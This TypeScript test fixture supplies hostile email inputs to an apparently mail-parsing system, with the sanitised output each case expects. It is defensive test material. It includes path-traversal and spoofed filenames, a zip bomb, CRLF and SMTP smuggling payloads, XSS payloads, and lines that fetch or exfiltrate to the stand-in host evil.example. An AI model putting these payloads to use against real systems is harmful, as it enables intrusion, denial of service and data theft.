import { gzipSync } from 'node:zlib'
import { dropped, eml, filePart, held, htmlPart, parts, type Row, textPart, update } from './row.ts'

/** Files, parts and texts that want to break a reader, a disk or a screen. */

const said = 'See the file.'
const file = (name: string, header: string, shown: string): Row =>
  update(`file-${name}`, parts({ of: [textPart(said), filePart(header)] }), said, { files: [shown] })
const nested = (depth: number): string => {
  let body = 'Content-Type: text/plain\n\ndeep'
  for (let at = 0; at < depth; at++) body = `Content-Type: multipart/mixed; boundary="b${at}"\n\n--b${at}\n${body}\n--b${at}--`
  return body
}
const topOf = (body: string): { headers: string; body: string } => {
  const [head = '', ...rest] = body.split('\n\n')
  return { headers: `MIME-Version: 1.0\n${head}`, body: rest.join('\n\n') }
}
const html = (name: string, body: string, text: string): Row =>
  update(`html-${name}`, eml({ headers: 'MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8', body }), text)
const zeros = gzipSync(Buffer.alloc(20_000_000))
  .toString('base64')
  .replace(/(.{76})/g, '$1\n')
const bytes = (text: string, ...tail: readonly number[]): Uint8Array => Buffer.concat([Buffer.from(text, 'latin1'), Buffer.from(tail)])

export const hostile: readonly Row[] = [
  file('path', 'filename="../../../../etc/passwd"', 'passwd'),
  file('path-windows', 'filename="..\\\\..\\\\windows\\\\system32\\\\evil.exe"', 'evil.exe'),
  file('path-absolute', 'filename="/var/www/html/shell.php"', 'shell.php'),
  file('dotfile', 'filename=".htaccess"', 'htaccess'),
  file('dotfile-behind-zero-width', 'filename="=?utf-8?B?4oCLLmh0YWNjZXNz?="', 'htaccess'),
  file('dotfile-behind-soft-hyphen', 'filename="=?utf-8?Q?=C2=AD.user.ini?="', 'user.ini'),
  file('rtl-override', 'filename="=?utf-8?B?aW52b2ljZeKArmNvZC5leGU=?="', 'invoicecod.exe'),
  file('nul', 'filename="=?utf-8?Q?shell.php=00.txt?="', 'shell.php.txt'),
  file('crlf', 'filename="=?utf-8?Q?a=0D=0AContent-Type=3A_text/html?="', 'html'),
  file('reserved', 'filename="CON.txt"', '_CON.txt'),
  file('reserved-com1', 'filename="com1"', '_com1'),
  file('colon-stream', 'filename="a.txt:hidden.exe:$DATA"', 'a.txt_hidden.exe_$DATA'),
  file('only-dots', 'filename="..."', 'file'),
  file('no-name', 'foo=bar', 'file'),
  file('double-extension', 'filename="photo.jpg.exe"', 'photo.jpg.exe'),
  file('rfc2231', "filename*=utf-8''%E2%82%AC%20rates.txt", '€ rates.txt'),
  file('rfc2231-pieces', 'filename*0="long-"; filename*1="name.txt"', 'long-name.txt'),
  file('quote-in-name', 'filename="a\\"b.txt"', 'a_b.txt'),
  file('html-as-image', 'filename="x.png"\nContent-Type: image/png', 'x.png'),
  update('file-10000-long', parts({ of: [textPart(said), filePart(`filename="${'n'.repeat(10_000)}.txt"`)] }), said),
  update('file-same-name-twice', parts({ of: [textPart(said), filePart('filename="a.txt"'), filePart('filename="a.txt"')] }), said, {
    files: ['a.txt', 'a.txt'],
  }),
  update(
    'file-zip-bomb',
    parts({
      of: [
        textPart(said),
        `Content-Type: application/zip; name="bomb.zip"\nContent-Disposition: attachment; filename="bomb.zip"\nContent-Transfer-Encoding: base64\n\n${zeros}`,
      ],
    }),
    said,
    { files: ['bomb.zip'] },
  ),
  update(
    'file-60-of-them',
    parts({ of: [textPart(said), ...Array.from({ length: 60 }, (_, at) => filePart(`filename="f${at}.txt"`))] }),
    `${said}\n\n(10 more files are in the original mail.)`,
  ),
  update('file-only', parts({ of: [filePart('filename="log.txt"')] }), '(A mail without text.)', { files: ['log.txt'] }),
  update(
    'file-broken-base64',
    parts({
      of: [
        textPart(said),
        'Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="x.bin"\nContent-Transfer-Encoding: base64\n\n!!!!not base64####\n====',
      ],
    }),
    said,
    { files: ['x.bin'] },
  ),
  update(
    'file-svg-with-script',
    parts({
      of: [textPart(said), 'Content-Type: image/svg+xml\nContent-Disposition: inline; filename="x.svg"\n\n<svg onload="alert(1)"/>'],
    }),
    said,
    { files: ['x.svg'] },
  ),
  update(
    'calendar',
    parts({
      kind: 'alternative',
      of: [
        textPart('Meeting tomorrow.'),
        'Content-Type: text/calendar; method=REQUEST; charset=utf-8\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nEND:VCALENDAR',
      ],
    }),
    'Meeting tomorrow.',
  ),
  update(
    'smime-signed',
    parts({
      kind: 'signed; protocol="application/pkcs7-signature"',
      of: [
        textPart(said),
        'Content-Type: application/pkcs7-signature; name="smime.p7s"\nContent-Disposition: attachment; filename="smime.p7s"\nContent-Transfer-Encoding: base64\n\nMIIB',
      ],
    }),
    said,
    { files: ['smime.p7s'] },
  ),
  update(
    'smime-encrypted',
    eml({
      headers:
        'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\nContent-Disposition: attachment; filename="smime.p7m"\nContent-Transfer-Encoding: base64',
      body: 'MIIB',
    }),
    '(A mail without text.)',
    { files: ['smime.p7m'] },
  ),
  update(
    'pgp-encrypted',
    parts({
      kind: 'encrypted; protocol="application/pgp-encrypted"',
      of: [
        'Content-Type: application/pgp-encrypted\n\nVersion: 1',
        'Content-Type: application/octet-stream; name="encrypted.asc"\nContent-Disposition: attachment; filename="encrypted.asc"\n\n-----BEGIN PGP MESSAGE-----\nabc\n-----END PGP MESSAGE-----',
      ],
    }),
    '(A mail without text.)',
  ),
  update(
    'pgp-inline',
    eml({
      body: '-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nhello\n-----BEGIN PGP SIGNATURE-----\nabc\n-----END PGP SIGNATURE-----',
    }),
  ),
  update(
    'winmail',
    parts({
      of: [
        textPart(said),
        'Content-Type: application/ms-tnef; name="winmail.dat"\nContent-Disposition: attachment; filename="winmail.dat"\nContent-Transfer-Encoding: base64\n\neJ8+Ig==',
      ],
    }),
    said,
    { files: ['winmail.dat'] },
  ),
  update(
    'mail-in-a-mail',
    parts({ of: [textPart(said), 'Content-Type: message/rfc822\n\nFrom: x@nowhere.example\nSubject: inner\n\ninner text'] }),
    said,
  ),
  // --- structure
  held('nested-1000', 'damaged', eml(topOf(nested(1000)))),
  update('nested-20', eml(topOf(nested(20))), 'deep'),
  held('headers-400k', 'damaged', eml({ headers: Array.from({ length: 4000 }, (_, at) => `X-${at}: ${'v'.repeat(90)}`).join('\n') })),
  held('headers-3000-short', 'damaged', eml({ headers: Array.from({ length: 3000 }, () => 'X: y').join('\n') })),
  update('header-folded-1000', eml({ headers: `X-Long: a\n${' b\n'.repeat(1000)}`.trimEnd() })),
  held('larger-than-allowed', 'too-big', eml({ body: '%x*1100000%' })),
  update('line-of-900000', eml({ body: '%y*900000%' })),
  update('lines-of-quotes-30000', eml({ body: `new\n${'> old\n'.repeat(30_000)}` })),
  update('parts-3000-empty', parts({ of: [textPart(said), ...Array.from({ length: 3000 }, () => 'Content-Type: text/plain\n\n')] })),
  update('no-closing-boundary', parts({ of: [textPart(said)] }).replace('--=_b--', ''), said),
  held('boundary-missing', 'empty', eml({ headers: 'MIME-Version: 1.0\nContent-Type: multipart/mixed', body: said })),
  held('boundary-of-nothing', 'empty', eml({ headers: 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=""', body: said })),
  update('type-none-sense', eml({ headers: 'MIME-Version: 1.0\nContent-Type: ;;;=;"', body: said })),
  update(
    'encoding-unknown',
    eml({ headers: 'MIME-Version: 1.0\nContent-Type: text/plain\nContent-Transfer-Encoding: x-secret', body: said }),
    said,
  ),
  update('charset-unknown', eml({ headers: 'MIME-Version: 1.0\nContent-Type: text/plain; charset=x-klingon', body: said }), said),
  update('charset-utf7', eml({ headers: 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-7', body: '+ADw-script+AD4-alert(1)' })),
  update('charset-wrong', bytes(eml({ body: 'broken ' }), 0xff, 0xfe, 0xc3, 0x28, 0x0d, 0x0a)),
  update('charset-utf16-claimed', eml({ headers: 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-16', body: said })),
  update('eight-bit-headers', Buffer.from(eml({ subject: 'Re: L\u00fcfter' }), 'latin1')),
  update('nul-in-the-text', eml({ body: 'before\u0000after' }), 'beforeafter'),
  update('lone-lf', eml({ body: said }).replaceAll('\r\n', '\n'), said),
  update('lone-cr', eml({ body: 'one\rtwo' }), 'one\ntwo'),
  update('smtp-smuggling', eml({ body: `${said}\n.\r\nMAIL FROM:<x@nowhere.example>\r\nRCPT TO:<y@nowhere.example>` })),
  held('empty-text', 'empty', eml({ body: '' })),
  held('empty-blanks', 'empty', eml({ body: ' \n\t\n \n' })),
  held('empty-mail', 'no-sender', ''),
  held('only-garbage', 'no-sender', Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 131) % 256))),
  held('only-nul', 'no-sender', Buffer.alloc(5000)),
  held('headers-only', 'empty', 'From: ann@acme.example\r\nTo: %ANN%\r\nSubject: x\r\n'),
  update('header-continuation-first', ` folded: first\r\n${eml({ body: said })}`),
  dropped(
    'from-stranger-html',
    'unknown-sender',
    eml({
      from: 'x@nowhere.example',
      to: 'case@support.example',
      headers: 'MIME-Version: 1.0\nContent-Type: text/html',
      body: '<script>fetch("http://evil.example")</script>',
    }),
  ),
  // --- HTML that wants to run, load or hide
  html('script', '<p>Hello</p><script>alert(1)</script><p>World</p>', 'Hello\n\nWorld'),
  html('script-unclosed', '<p>Hello</p><script>alert(1)', 'Hello'),
  html('event-handlers', '<p onclick="alert(1)" onmouseover=\'x\'>Hello</p>', 'Hello'),
  html('remote-image', '<p>Hello<img src="http://evil.example/p.gif" width=1 height=1></p>', 'Hello'),
  html('image-with-words', '<p>See <img alt="the fan" src="cid:1"> here</p>', 'See [the fan] here'),
  html('style-exfiltration', '<style>input[value^=a]{background:url(http://evil.example/a)}</style>Hello', 'Hello'),
  html('meta-refresh', '<meta http-equiv="refresh" content="0;url=http://evil.example">Hello', 'Hello'),
  html('svg-math', '<svg><script>alert(1)</script></svg><math><mi>x</mi></math>Hello', 'Hello'),
  html('iframe-object', '<iframe src="javascript:alert(1)">no</iframe><object data="x">no</object>Hello', 'Hello'),
  html('form', '<form action="http://evil.example"><input name="password"><select><option>no</option></select>Hello</form>', 'Hello'),
  html('comment-conditional', '<!--[if mso]><p>hidden</p><![endif]-->Hello<!-- unclosed', 'Hello'),
  html('entities', '<p>&lt;b&gt; &amp; &#x48;ello &#0; &#xD800; &bogus;</p>', '<b> & Hello &bogus;'),
  html('attribute-with-bracket', '<p title="a > b">Hello</p>', 'Hello'),
  html('unclosed-tag', 'Hello <a href="', 'Hello'),
  html('lone-signs', '1 < 2 and 3 > 2', '1 < 2 and 3 > 2'),
  html('nested-tables', `${'<table><tr><td>'.repeat(3000)}Hello${'</td></tr></table>'.repeat(3000)}`, 'Hello'),
  html('nested-quotes-deep', `<p>Hello</p>${'<blockquote>'.repeat(5000)}old${'</blockquote>'.repeat(5000)}`, 'Hello'),
  update('html-open-signs-200000', eml({ headers: 'MIME-Version: 1.0\nContent-Type: text/html', body: `Hello ${'<'.repeat(200_000)}` })),
  update(
    'html-beside-other-text',
    parts({ kind: 'alternative', of: [textPart('Harmless text.'), htmlPart('<script>alert(1)</script>Other')] }),
    'Harmless text.',
  ),
]
